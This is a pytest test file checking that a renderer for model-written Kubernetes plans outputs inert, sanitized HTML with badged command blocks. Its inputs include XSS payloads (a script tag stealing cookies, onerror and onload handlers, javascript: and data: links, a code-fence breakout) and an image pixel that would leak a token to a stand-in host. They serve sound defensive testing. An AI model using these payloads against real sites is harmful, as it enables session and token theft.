"""Model output is untrusted: it renders as inert, sanitized HTML with badged command blocks."""

from html.parser import HTMLParser

import pytest

from app.plans.core.markdown import PlanHtmlStream, render_plan
from tests.plans_core.planning_helpers import collect, messages_for
from tests.plans_core.planning_samples import CASES


def live_tags(html):
    """(tag, attributes) of every element a browser would build from this HTML."""
    found = []

    class Collector(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))
    Collector().feed(html)
    return found


@pytest.mark.parametrize("hostile", [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="alert(1)">',
    "[click me](javascript:alert(1))",
    "[click me](JaVaScRiPt:alert(1))",
    '<a href="javascript:alert(1)">x</a>',
    '<div onclick="alert(1)">hi</div>',
    '<iframe src="https://evil.example"></iframe>',
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<svg onload="alert(1)"></svg>',
    "```bash\nkubectl -n team-a get pods </code></pre><script>alert(1)</script>\n```",
])
def test_hostile_markup_renders_inert(hostile):
    tags = live_tags(render_plan(hostile, {"team-a"}))
    assert not {tag for tag, _ in tags} & {"script", "img", "iframe", "svg", "object", "embed", "style"}
    for _, attrs in tags:
        assert not [name for name in attrs if name.startswith("on")]
        assert not str(attrs.get("href", "")).lower().startswith(("javascript:", "data:"))


def test_raw_html_is_shown_as_text():
    assert render_plan("Hello <b>world</b>") == "<p>Hello &lt;b&gt;world&lt;/b&gt;</p>\n"


def test_markdown_images_are_dropped_so_nothing_loads():
    html = render_plan("![status](https://evil.example/pixel.png?leak=token)")
    assert "<img" not in html and "evil.example" not in html


def test_links_are_kept_safe():
    html = render_plan("[docs](https://kubernetes.io/docs/)")
    assert '<a href="https://kubernetes.io/docs/" rel="noopener noreferrer nofollow">docs</a>' in html


def test_each_command_gets_its_own_block_badge_and_copy_button():
    html = render_plan("```bash\n# look first\nkubectl -n team-a get pods\n"
                       "kubectl -n team-a rollout undo deployment/web\n```", {"team-a"})
    assert html.count('class="plan-command"') == 2
    assert html.count('<button type="button" class="plan-copy" aria-label="Copy command">Copy</button>') == 2
    assert '<span class="badge badge-read-only">read-only</span>' in html
    assert '<span class="badge badge-changes">changes cluster</span>' in html
    assert '<pre><code class="language-bash"># look first\n</code></pre>' in html
    assert "badge-outside" not in html


def test_commands_aimed_at_other_namespaces_are_flagged():
    html = render_plan("```bash\nkubectl -n team-z delete pod web-1\nkubectl get pods -A\n```", {"team-a"})
    assert "namespace not granted: team-z" in html
    assert "namespace not granted: all namespaces" in html


def test_other_code_blocks_are_escaped_and_keep_their_language():
    html = render_plan('```yaml\nmetadata: {name: "<web>"}\n```')
    assert html == '<pre><code class="language-yaml">metadata: {name: "&lt;web&gt;"}\n</code></pre>\n'


def test_unknown_language_classes_are_not_emitted():
    html = render_plan('```evil" onmouseover="x\nhi\n```')
    assert "onmouseover" not in html and "<pre><code>hi\n</code></pre>" in html


def test_a_whole_offline_plan_renders_with_badged_commands(model):
    _, messages = messages_for(CASES["oom"])
    html = render_plan("".join(collect(model, messages)[0]), {"team-c"})
    assert html.count('class="plan-command"') >= 4
    assert "badge-changes" in html and "badge-read-only" in html and "badge-outside" not in html


def test_streamed_plan_is_rerendered_only_when_due():
    stream = PlanHtmlStream({"team-a"}, interval=3600)
    first = stream.feed("# Plan\n\n```bash\nkubectl -n team-a get pods")
    assert first.startswith("<h3>Plan</h3>"), "the first piece renders at once"
    assert "plan-command-pending" in first and "badge" not in first, "the open block's command is not badged"
    assert stream.feed("\n```\n") is None, "then not again before the interval"
    final = stream.finish()
    assert stream.text == "# Plan\n\n```bash\nkubectl -n team-a get pods\n```\n"
    assert 'class="plan-command"' in final and final == render_plan(stream.text, {"team-a"})


def test_headings_sit_below_the_dialog_title():
    html = render_plan("# Plan\n\n## Steps\n\n### Check\n\n#### Deep\n\n##### Deeper\n\n###### Deepest\n\n"
                       "Setext\n======\n\nSub\n---\n")
    assert [tag for tag, _ in live_tags(html)] == ["h3", "h4", "h5", "h6", "h6", "h6", "h3", "h4"]
    assert "<h3>Plan</h3>" in html and "<h4>Steps</h4>" in html and "<h6>Deepest</h6>" in html
    assert "<h1" not in html and "<h2" not in html


def test_allow_list_has_no_top_level_headings():
    from app.plans.core.markdown import ALLOWED_TAGS
    assert not {"h1", "h2"} & ALLOWED_TAGS and {"h3", "h4", "h5", "h6"} <= ALLOWED_TAGS


@pytest.mark.parametrize("partial", [
    "Roll back:\n\n```bash\nkubectl",
    "Roll back:\n\n```bash\nkubectl -n team-a rollout",
    "Roll back:\n\n```bash\nkubectl -n team-a rollout undo deployment/web\n",
    "Roll back:\n\n```bash\nkubectl -n team-a apply -f - <<EOF\napiVersion: v1\n",
    "Roll back:\n\n```bash\nkubectl -n team-a rollout undo \\\n",
    "Roll back:\n\n    kubectl -n team-a rollout undo deployment/web",
])
def test_the_command_still_being_written_is_not_badged_while_streaming(partial):
    html = render_plan(partial, {"team-a"}, streaming=True)
    assert html.count('class="plan-command plan-command-pending"') == 1, html
    assert "badge" not in html and "data-effect" not in html, html
    assert "kubectl" in html and 'class="plan-copy"' in html
    final = render_plan(partial, {"team-a"})  # at finish every command is badged
    assert "plan-command-pending" not in final and "badge-changes" in final, final
    assert final == render_plan(partial, {"team-a"}, streaming=False)


def test_complete_commands_are_badged_while_streaming():
    text = "```bash\nkubectl -n team-a get pods\nkubectl -n team-a delete pod web-1\n"
    html = render_plan(text, {"team-a"}, streaming=True)
    assert html.count('<span class="badge badge-read-only">read-only</span>') == 1, "the finished line is badged"
    assert html.count("plan-command-pending") == 1 and "badge-changes" not in html, "the last one is not yet"
    closed = render_plan(text + "```", {"team-a"}, streaming=True)
    assert "plan-command-pending" not in closed and "badge-changes" in closed, "a closed fence is complete"
    assert closed == render_plan(text + "```", {"team-a"})
    followed = render_plan(text + "```\n\nThen watch the rollout.", {"team-a"}, streaming=True)
    assert "plan-command-pending" not in followed and "badge-changes" in followed
    closing = render_plan(text + "``", {"team-a"}, streaming=True)
    assert "plan-command-pending" not in closing and "badge-changes" in closing, "the fence is being closed"
    assert "``" not in closing, "a half-written closing fence is not shown as code"
    nested = render_plan("> ```bash\n> kubectl -n team-a delete pod web-1\n> ```\n", {"team-a"}, streaming=True)
    assert "plan-command-pending" not in nested and "badge-changes" in nested


def test_trailing_non_command_lines_do_not_hold_back_the_badge():
    html = render_plan("```bash\nkubectl -n team-a delete pod web-1\n# then wait", {"team-a"}, streaming=True)
    assert "plan-command-pending" not in html and "badge-changes" in html


def test_stream_badges_everything_at_finish():
    stream = PlanHtmlStream({"team-a"}, interval=0)
    assert "badge" not in stream.feed("```bash\nkubectl")
    assert "badge" not in stream.feed(" -n team-a delete pod web-1")
    final = stream.finish()
    assert "plan-command-pending" not in final and "badge-changes" in final
